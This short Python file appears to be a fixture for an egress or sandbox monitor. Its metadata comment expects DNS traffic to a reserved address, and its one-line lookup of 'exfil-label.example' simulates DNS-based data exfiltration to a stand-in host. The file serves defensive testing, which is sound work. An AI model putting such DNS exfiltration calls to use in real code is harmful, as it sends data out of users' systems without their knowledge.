#: {"class": "egress", "loader": "script", "expect": [["sendto|sendmsg|sendmmsg|send|connect|udp", "203\\.0\\.113\\.7:53"]], "effect": {"sink": ["dns", "exfil-label"]}}
import socket
try: socket.getaddrinfo("exfil-label.example", 80)
except OSError: pass
